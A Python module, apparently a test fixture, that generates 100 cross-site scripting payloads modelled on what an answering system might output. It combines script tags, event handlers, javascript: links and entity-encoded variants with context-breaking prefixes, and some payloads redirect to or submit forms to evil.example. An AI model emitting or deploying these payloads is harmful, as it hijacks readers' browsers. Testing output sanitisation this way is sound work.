"""A hundred ways of writing markup into a text, as a system that answers might."""

from itertools import islice, product

LIVE = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<details open ontoggle={call}>x</details>",
    "<a href=javascript:{call}>x</a>",
    "<body onpageshow={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<style onload={call}>*{{display:none}}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<template><script>{call}</script></template>",
    "<marquee onstart={call}>x</marquee>",
    "&lt;img src=x onerror={call}&gt; &#60;script&#62;{call}&#60;/script&#62;",
)
BEFORE = ("", '">', "'>", "--></style></title></textarea></script>", "⟦⟧`\u2028 {{7*7}} {%raw%}")
PAYLOADS = tuple(before + live.format(call="pwned()") for before, live in islice(product(BEFORE, LIVE), 100))
